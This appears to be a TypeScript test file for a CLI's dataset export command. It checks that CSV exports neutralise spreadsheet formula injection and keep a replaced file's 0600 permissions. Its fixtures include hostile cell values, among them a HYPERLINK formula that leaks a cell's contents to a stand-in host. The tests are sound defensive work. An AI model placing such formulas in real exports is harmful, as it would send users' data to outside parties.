/** Exports a spreadsheet cannot run, and that keep the permissions of the file they replace (docs/security.md). */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { runCli } from '../../../src/cli/runCli';
import { CliIo } from '../../../src/cli/cliTypes';
import { tempDir, write } from './hostileCases';

const ROWS = [
  { text: '=HYPERLINK("http://example.invalid/?leak="&A1,"x")', n: -5 },
  { text: '+1+1', n: 1 },
  { text: '-2+3', n: 2 },
  { text: '@SUM(A1)', n: 3 },
  { text: '\t=1', n: 4 },
  { text: '\r=1', n: 5 },
  { text: 'plain = text', n: 6 },
];

function capture(cwd: string): CliIo & { out: string; err: string } {
  const io = { out: '', err: '', cwd, stdout: (t: string) => { io.out += t; }, stderr: (t: string) => { io.err += t; } };
  return io;
}

describe('dataset export of hostile cells', () => {
  let dir: string;
  before(() => {
    dir = tempDir('export');
    write(dir, 'rows.jsonl', ROWS.map((r) => JSON.stringify(r)).join('\n') + '\n');
    write(dir, 'formula-header.jsonl', `${JSON.stringify({ '=cmd': 'a' })}\n`);
    write(dir, 'rows.dataset.yaml', 'key: r\ndisplay_name: R\nsource: { type: local, file_path: rows.jsonl }\n');
    write(dir, 'header.dataset.yaml', 'key: h\ndisplay_name: H\nsource: { type: local, file_path: formula-header.jsonl }\n');
  });
  after(() => fs.rmSync(dir, { recursive: true, force: true }));

  test('CSV: text cells starting with = + - @ tab or CR get a leading quote; numbers and JSONL stay exact', async () => {
    const io = capture(dir);
    assert.equal(await runCli(['dataset', 'export', 'rows.dataset.yaml', '-o', 'rows.csv'], io), 0, io.err);
    const csv = fs.readFileSync(path.join(dir, 'rows.csv'), 'utf8');
    const records = csv.split('\r\n');
    assert.equal(records[0], 'text,n');
    assert.equal(records[1], `"'=HYPERLINK(""http://example.invalid/?leak=""&A1,""x"")",-5`);
    assert.equal(records[2], "'+1+1,1");
    assert.equal(records[3], "'-2+3,2");
    assert.equal(records[4], "'@SUM(A1),3");
    assert.equal(records[5], "'\t=1,4");
    assert.ok(csv.includes(`"'\r=1",5`), JSON.stringify(csv));
    assert.ok(csv.includes('plain = text,6'));
    assert.equal(await runCli(['dataset', 'export', 'rows.dataset.yaml', '-o', 'rows.jsonl.out.jsonl'], capture(dir)), 0);
    assert.deepEqual(fs.readFileSync(path.join(dir, 'rows.jsonl.out.jsonl'), 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l) as unknown), ROWS);
  });

  test('CSV: a column name that is a formula is neutralised too', async () => {
    assert.equal(await runCli(['dataset', 'export', 'header.dataset.yaml', '-o', 'header.csv'], capture(dir)), 0);
    assert.equal(fs.readFileSync(path.join(dir, 'header.csv'), 'utf8'), "'=cmd\r\na\r\n");
  });

  test('an export replacing a 0600 file keeps mode 0600', { skip: process.platform === 'win32' }, async () => {
    const out = path.join(dir, 'private.jsonl');
    fs.writeFileSync(out, 'old\n', { mode: 0o600 });
    fs.chmodSync(out, 0o600);
    assert.equal(await runCli(['dataset', 'export', 'rows.dataset.yaml', '-o', 'private.jsonl'], capture(dir)), 0);
    assert.equal(fs.statSync(out).mode & 0o777, 0o600);
    assert.notEqual(fs.readFileSync(out, 'utf8'), 'old\n');
  });
});
